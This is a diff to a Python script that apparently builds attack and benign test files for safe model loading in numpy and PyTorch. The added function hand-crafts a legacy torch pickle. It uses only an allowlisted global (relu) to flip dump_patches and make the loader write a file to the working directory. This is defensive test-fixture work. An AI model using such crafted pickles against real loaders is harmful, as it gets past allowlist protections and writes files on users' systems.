@@ -15,6 +15,7 @@ Run with Debian's numpy and PyTorch:
 """
 import io
 import os
+import struct
 import sys
 import zipfile
 
@@ -80,6 +81,7 @@ def main():
     npz("attack_noext.npz", [("weights", evil, True)])
     lightning_run()
     overflow_storage()
+    build_side_effect()
 
 
 def lightning_ckpt(epoch, step, best):
@@ -149,6 +151,30 @@ def overflow_storage():
     same file with the honest count 4."""
     torch_zip_with_numel(os.path.join(OUT, "attack_numel_overflow.pt"), 2**62 + 4, 16, (4,))
     torch_zip_with_numel(os.path.join(OUT, "benign_numel.pt"), 4, 16, (4,))
+
+
+def binunicode(s):
+    b = s.encode()
+    return b"X" + struct.pack("<I", len(b)) + b
+
+
+def build_side_effect():
+    """attack_build_patch.pt, a legacy torch file whose every global is on
+    the allowlist (torch.nn.functional.relu): BUILD on the function sets
+    relu.dump_patches = True, then a ("module", relu, file, source)
+    persistent id makes torch's legacy loader compare sources and, as they
+    differ, write relu.patch into the working directory."""
+    import pickle
+    relu = b"ctorch.nn.functional\nrelu\n"
+    main = (b"\x80\x02" + relu + b"N}" + binunicode("dump_patches") + b"\x88s\x86b0"
+            + b"(" + binunicode("module") + relu + binunicode("evil.py") + binunicode("not relu's source")
+            + b"tQ.")
+    sys_info = dict(protocol_version=1001, little_endian=True, type_sizes=dict(short=2, int=4, long=4))
+    with open(os.path.join(OUT, "attack_build_patch.pt"), "wb") as f:
+        for part in (0x1950a86a20f9469cfc6c, 1001, sys_info):
+            f.write(pickle.dumps(part, protocol=2))
+        f.write(main)
+        f.write(pickle.dumps([], protocol=2))
 
 
 if __name__ == "__main__":
